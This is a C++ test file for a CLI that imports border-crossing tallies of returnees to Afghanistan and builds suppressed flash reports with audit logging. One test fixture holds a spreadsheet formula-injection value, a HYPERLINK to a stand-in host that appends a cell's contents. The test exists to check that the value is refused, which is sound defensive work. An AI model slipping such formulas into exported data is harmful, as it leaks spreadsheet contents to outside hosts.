// `sanad import movements` and `sanad report flash`, run as a user would.
#include <gtest/gtest.h>
#include <sqlite3.h>

#include <algorithm>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>

#include "../testing/files.h"
#include "../testing/process.h"
#include "../testing/temp_dir.h"

namespace sanad {
namespace {

using sanad::testing::ReadWholeFile;
using sanad::testing::WriteWholeFile;

using sanad::testing::Run;

const char* kHeader =
    "date,crossing_point,direction,mode,households,individuals,female,male,age_0_4,age_5_17,"
    "age_18_59,age_60_plus,destination_province\n";

// A week of tallies at Torkham and Chaman; 2 deported women at Chaman on
// 2025-04-08 make small cells.
std::string GoodTallies() {
  return std::string(kHeader) +
         "2025-04-07,Torkham,to_afghanistan,spontaneous,120,800,420,380,160,240,360,40,Nangarhar\n"
         "2025-04-07,Torkham,to_afghanistan,deported,40,90,10,80,5,10,70,5,Kabul\n"
         "2025-04-08,chaman,to_afghanistan,spontaneous,50,300,160,140,60,90,130,20,Kandahar\n"
         "2025-04-08,Chaman,to_afghanistan,deported,12,30,2,28,1,2,25,2,Kandahar\n"
         "2025-04-09,Torkham,to_afghanistan,spontaneous,100,700,370,330,140,210,315,35,Nangarhar\n"
         "2025-04-09,Torkham,to_pakistan,spontaneous,3,9,4,5,1,2,5,1,\n";
}

// The audit actions recorded in a site's database, oldest first.
std::vector<std::string> AuditActions(const std::string& db_path) {
  std::vector<std::string> actions;
  sqlite3* db = nullptr;
  sqlite3_open(db_path.c_str(), &db);
  sqlite3_stmt* stmt = nullptr;
  if (sqlite3_prepare_v2(db, "SELECT action FROM audit_log ORDER BY seq", -1, &stmt, nullptr) ==
      SQLITE_OK) {
    while (sqlite3_step(stmt) == SQLITE_ROW) {
      actions.emplace_back(reinterpret_cast<const char*>(sqlite3_column_text(stmt, 0)));
    }
  }
  sqlite3_finalize(stmt);
  sqlite3_close(db);
  return actions;
}

struct Site {
  sanad::testing::TempDir dir;
  std::string db = dir.File("site.db");
  std::string key = dir.File("site.key");

  sanad::testing::RunResult Sanad(std::vector<std::string> args) {
    args.insert(args.begin(), SANAD_BINARY);
    args.insert(args.end(), {"--db", db, "--key-file", key});
    return Run(args);
  }
};

TEST(ImportMovements, BadRowsAreNamedAndNothingIsImported) {
  Site site;
  const std::string csv = site.dir.File("tallies.csv");
  WriteWholeFile(
      csv, std::string(kHeader) +
               "2025-04-07,Torkham,to_afghanistan,spontaneous,120,800,420,380,160,240,360,40,"
               "Nangarhar\n"
               "2025-04-07,Torkham,to_afghanistan,deported,40,90,10,79,5,10,70,5,Kabul\n"
               "2025-04-08,Karachi,to_afghanistan,spontaneous,50,300,160,140,60,90,130,20,\n");
  auto result = site.Sanad({"import", "movements", csv});
  EXPECT_NE(result.exit_code, 0);
  EXPECT_NE(result.err.find("tallies.csv:3: female: female + male = 89 but individuals = 90"),
            std::string::npos)
      << result.err;
  EXPECT_NE(result.err.find("tallies.csv:4: crossing_point:"), std::string::npos) << result.err;
  EXPECT_NE(result.err.find("nothing was imported"), std::string::npos);

  // A good file afterwards: only its people are in the report.
  WriteWholeFile(csv, GoodTallies());
  result = site.Sanad({"import", "movements", csv});
  ASSERT_EQ(result.exit_code, 0) << result.err;
  EXPECT_NE(result.out.find("imported 6 tallies"), std::string::npos) << result.out;
  result = site.Sanad({"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13"});
  ASSERT_EQ(result.exit_code, 0) << result.err;
  const auto json = nlohmann::json::parse(result.out);
  EXPECT_EQ(json["totals"]["total"]["individuals"], 800 + 90 + 300 + 30 + 700);
}

TEST(ReportFlash, JsonCsvAndXlsx) {
  Site site;
  const std::string csv = site.dir.File("tallies.csv");
  WriteWholeFile(csv, GoodTallies());
  ASSERT_EQ(site.Sanad({"import", "movements", csv}).exit_code, 0);

  auto result = site.Sanad({"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13", "--by",
                            "week", "--format", "json"});
  ASSERT_EQ(result.exit_code, 0) << result.err;
  auto json = nlohmann::json::parse(result.out);
  ASSERT_EQ(json["rows"].size(), 4u);
  EXPECT_EQ(json["rows"][0]["date"], "2025-04-07");
  EXPECT_EQ(json["rows"][0]["crossing_point"], "Torkham");
  EXPECT_EQ(json["rows"][0]["individuals"], 1500);
  const auto& chaman_deported = json["rows"][3];
  EXPECT_EQ(chaman_deported["crossing_point"], "Chaman–Spin Boldak");
  EXPECT_TRUE(chaman_deported["female"].is_null());
  EXPECT_FALSE(chaman_deported["suppressed"].empty());
  EXPECT_EQ(json["disclosure_control"]["applied"], true);

  result = site.Sanad(
      {"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13", "--format", "csv"});
  ASSERT_EQ(result.exit_code, 0) << result.err;
  const auto second_line = result.out.substr(result.out.find('\n') + 1);
  EXPECT_EQ(second_line.rfind("#date,", 0), 0u) << result.out;

  const std::string xlsx = site.dir.File("flash.xlsx");
  result = site.Sanad({"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13", "--format",
                       "xlsx", "--out", xlsx});
  ASSERT_EQ(result.exit_code, 0) << result.err;
  const std::string bytes = ReadWholeFile(xlsx);
  ASSERT_GT(bytes.size(), 4000u);
  EXPECT_EQ(bytes.substr(0, 2), "PK");
}

TEST(ReportFlash, SmallCellsNeedAPurposeAndAreAudited) {
  Site site;
  const std::string csv = site.dir.File("tallies.csv");
  WriteWholeFile(csv, GoodTallies());
  ASSERT_EQ(site.Sanad({"import", "movements", csv}).exit_code, 0);
  auto result = site.Sanad(
      {"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13", "--no-suppression"});
  EXPECT_NE(result.exit_code, 0);
  EXPECT_NE(result.err.find("--purpose"), std::string::npos) << result.err;
  result =
      site.Sanad({"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13", "--k", "2"});
  EXPECT_NE(result.exit_code, 0);
  result = site.Sanad({"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13",
                       "--no-suppression", "--purpose", "checking the Chaman tally sheet"});
  ASSERT_EQ(result.exit_code, 0) << result.err;
  EXPECT_NE(result.err.find("do not publish"), std::string::npos);
  const auto json = nlohmann::json::parse(result.out);
  EXPECT_EQ(json["disclosure_control"]["applied"], false);
  EXPECT_EQ(json["rows"][3]["female"], 2);
  // The decision is in the audit log, and the log still verifies.
  const auto actions = AuditActions(site.db);
  EXPECT_EQ(std::count(actions.begin(), actions.end(), "report.flash.small_cells"), 1);
  result = site.Sanad({"audit", "verify"});
  EXPECT_EQ(result.exit_code, 0) << result.err;
}

// Issue 16: the site's k, set in the browser (Administration, Settings), is
// the CLI's default too; a --k below it needs a purpose like any small cell.
TEST(ReportFlash, TheSitesKIsTheDefaultAndGoingBelowItNeedsAPurpose) {
  Site site;
  const std::string csv = site.dir.File("tallies.csv");
  WriteWholeFile(csv, GoodTallies());
  ASSERT_EQ(site.Sanad({"import", "movements", csv}).exit_code, 0);
  sqlite3* db = nullptr;
  ASSERT_EQ(sqlite3_open(site.db.c_str(), &db), SQLITE_OK);
  ASSERT_EQ(sqlite3_exec(db,
                         "INSERT INTO site_settings (key, value, updated_by, updated_at) "
                         "VALUES ('k', '8', 'admin', '2025-04-14T08:00:00Z')",
                         nullptr, nullptr, nullptr),
            SQLITE_OK);
  sqlite3_close(db);
  auto result = site.Sanad({"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13"});
  ASSERT_EQ(result.exit_code, 0) << result.err;
  EXPECT_EQ(nlohmann::json::parse(result.out)["disclosure_control"]["k"], 8);
  result =
      site.Sanad({"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13", "--k", "6"});
  EXPECT_NE(result.exit_code, 0);
  EXPECT_NE(result.err.find("below this site's 8"), std::string::npos) << result.err;
  result =
      site.Sanad({"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13", "--k", "9"});
  ASSERT_EQ(result.exit_code, 0) << result.err;
  EXPECT_EQ(nlohmann::json::parse(result.out)["disclosure_control"]["k"], 9);
}

TEST(ReportFlash, BadOptionsAreExplained) {
  Site site;
  const std::string csv = site.dir.File("tallies.csv");
  WriteWholeFile(csv, GoodTallies());
  ASSERT_EQ(site.Sanad({"import", "movements", csv}).exit_code, 0);
  struct Case {
    std::vector<std::string> args;
    std::string says;
  };
  const Case cases[] = {
      {{"--from", "07/04/2025", "--to", "2025-04-13"}, "--from"},
      {{"--from", "2025-04-14", "--to", "2025-04-13"}, "--from"},
      {{"--from", "2025-04-07", "--to", "2025-04-13", "--by", "year"}, "--by"},
      {{"--from", "2025-04-07", "--to", "2025-04-13", "--format", "xlsx"}, "--out"},
      {{"--from", "2025-04-07", "--to", "2025-04-13", "--format", "pdf"}, "--format"},
  };
  for (const auto& c : cases) {
    std::vector<std::string> args = {"report", "flash"};
    args.insert(args.end(), c.args.begin(), c.args.end());
    SCOPED_TRACE(c.says);
    auto result = site.Sanad(args);
    EXPECT_NE(result.exit_code, 0);
    EXPECT_NE(result.err.find(c.says), std::string::npos) << result.err;
  }
}

// Defect J: importing the same tally file twice counted every person twice
// and nothing said so.
TEST(ImportMovements, TheSameFileTwiceIsRefusedUnlessAgain) {
  Site site;
  const std::string csv = site.dir.File("tallies.csv");
  WriteWholeFile(csv, GoodTallies());
  ASSERT_EQ(site.Sanad({"import", "movements", csv}).exit_code, 0);
  auto twice = site.Sanad({"import", "movements", csv});
  EXPECT_NE(twice.exit_code, 0);
  EXPECT_NE(twice.err.find("already imported"), std::string::npos) << twice.err;
  EXPECT_NE(twice.err.find("--again"), std::string::npos) << twice.err;
  auto count = [&] {
    auto r = site.Sanad({"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13"});
    EXPECT_EQ(r.exit_code, 0) << r.err;
    return nlohmann::json::parse(r.out)["totals"]["total"]["individuals"].get<int64_t>();
  };
  EXPECT_EQ(count(), 1920);
  auto again = site.Sanad({"import", "movements", csv, "--again"});
  EXPECT_EQ(again.exit_code, 0) << again.err;
  EXPECT_EQ(count(), 2 * 1920);
  EXPECT_EQ(site.Sanad({"audit", "verify"}).exit_code, 0);
}

// Defect G: a destination typed as a spreadsheet formula went through
// `sanad import movements` into the published CSV. It is refused now, naming
// the row; the published CSV neutralises any text cell anyway.
TEST(ImportMovements, AFormulaAsDestinationIsRefusedNamingTheRow) {
  Site site;
  const std::string csv = site.dir.File("tallies.csv");
  WriteWholeFile(csv, GoodTallies() +
                          "2025-04-09,Torkham,to_afghanistan,deported,40,90,10,80,5,10,70,5,"
                          "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\"\n");
  auto result = site.Sanad({"import", "movements", csv});
  EXPECT_NE(result.exit_code, 0);
  EXPECT_NE(result.err.find("tallies.csv:8: destination_province:"), std::string::npos)
      << result.err;
  WriteWholeFile(csv, GoodTallies());
  ASSERT_EQ(site.Sanad({"import", "movements", csv}).exit_code, 0);
  result = site.Sanad({"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13", "--format",
                       "csv", "--by-destination"});
  ASSERT_EQ(result.exit_code, 0) << result.err;
  EXPECT_EQ(result.out.find(",="), std::string::npos);
}

// Defect L and I: a CR-only file is read; a future date is refused as the
// API refuses it.
TEST(ImportMovements, CrOnlyFilesAreReadAndFutureDatesRefused) {
  Site site;
  const std::string csv = site.dir.File("tallies.csv");
  std::string text = GoodTallies();
  std::replace(text.begin(), text.end(), '\n', '\r');
  WriteWholeFile(csv, text);
  auto result = site.Sanad({"import", "movements", csv});
  ASSERT_EQ(result.exit_code, 0) << result.err;
  EXPECT_NE(result.out.find("imported 6 tallies"), std::string::npos) << result.out;
  WriteWholeFile(csv, std::string(kHeader) +
                          "2999-01-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,Kabul\n");
  result = site.Sanad({"import", "movements", csv});
  EXPECT_NE(result.exit_code, 0);
  EXPECT_NE(result.err.find("tallies.csv:2: date:"), std::string::npos) << result.err;
}

}  // namespace
}  // namespace sanad
